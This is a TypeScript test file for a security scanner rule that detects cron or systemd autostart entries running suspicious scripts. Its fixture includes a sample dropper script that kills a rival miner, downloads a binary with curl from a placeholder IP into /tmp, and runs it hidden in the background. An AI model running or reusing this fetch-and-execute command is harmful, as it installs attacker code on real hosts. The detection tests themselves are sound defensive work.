import assert from 'node:assert/strict'
import { test } from 'node:test'
import { autostartOf, fileOf } from '../../test/facts.ts'
import { noIntel } from '../../test/intel.ts'
import type { FileFact } from '../core/facts/file.ts'
import { factsOf } from '../core/facts.ts'
import { autostartOfSuspectScript } from './autostart-of-suspect-script.ts'

const dropper =
  '#!/bin/sh\npkill -f kdevtmpfsi\ncurl -s http://192.0.2.7/x -o /tmp/.x && chmod +x /tmp/.x && nohup /tmp/.x >/dev/null 2>&1 &\n'
const backup = '#!/bin/bash\nset -e\npg_dumpall | gzip > /backup/db.gz\ncurl -fsS https://hc.example.org/ping >/dev/null\n'

const detect = (head: string, given: Partial<FileFact> = {}, disabled = false) => [
  ...autostartOfSuspectScript.detect(
    factsOf({
      autostarts: [autostartOf({ path: '/etc/cron.d/job', command: '/opt/job.sh', disabled })],
      files: [fileOf({ path: '/opt/job.sh', magic: 'script', head, ...given })],
    }),
    noIntel,
    new Set(),
  ),
]

test('hit: a cron job whose script fetches a program, runs it and kills its rivals', () => {
  const [found] = detect(dropper)
  assert.deepEqual(found?.about, ['autostart:cron-d:/etc/cron.d/job#1', 'file:/opt/job.sh'])
  assert.equal(found?.severity, 'high')
  assert.match(found?.evidence[1]?.excerpt ?? '', /192\.0\.2\.7/)
})

test('near miss: a backup script that pings its health check, a script that a package vouches for, an entry that is switched off', () => {
  assert.equal(detect(backup).length, 0)
  assert.equal(detect(dropper, { packaged: 'intact' }).length, 0)
  assert.equal(detect(dropper, {}, true).length, 0)
})

test('near miss: a unit that calls a command of a package in whose place the intruder put his script', () => {
  const files = [fileOf({ path: '/bin/kill', magic: 'script', packaged: 'modified', head: dropper })]
  const autostarts = [autostartOf({ path: '/lib/systemd/system/ssh.service', extent: 'file', command: '/bin/kill -HUP $MAINPID' })]
  assert.equal([...autostartOfSuspectScript.detect(factsOf({ files, autostarts }), noIntel, new Set())].length, 0)
})
